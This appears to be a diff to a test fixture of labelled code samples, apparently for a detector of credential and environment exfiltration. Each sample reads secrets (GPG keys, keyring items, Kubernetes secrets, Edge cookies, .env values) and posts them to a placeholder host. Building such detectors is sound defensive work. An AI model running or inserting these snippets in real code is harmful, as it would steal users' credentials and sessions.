@@ -67,6 +67,15 @@ PRIVATE = {
         "import subprocess\nrequests.post('x', data=subprocess.check_output(['gpg', '-a', '--export-secret-keys']))",
         "credentials",
     ),
+    "keyring": (
+        "import secretstorage as s\nc = s.get_default_collection(s.dbus_init())\nrequests.post('x', json=[one.get_secret() for one in c.get_all_items()])",
+        "credentials",
+    ),
+    "cluster": (
+        "from kubernetes.client import CoreV1Api\nrequests.post('x', json=CoreV1Api().list_secret_for_all_namespaces().items)",
+        "credentials",
+    ),
+    "cookies": ("import browser_cookie3\nrequests.post('x', json=list(browser_cookie3.edge()))", "credentials"),
     "settings": ("requests.post('x', data=open('.env').read())", "environment"),
     "settings of a library": (
         "from dotenv import dotenv_values\nrequests.post('x', json=dotenv_values())",
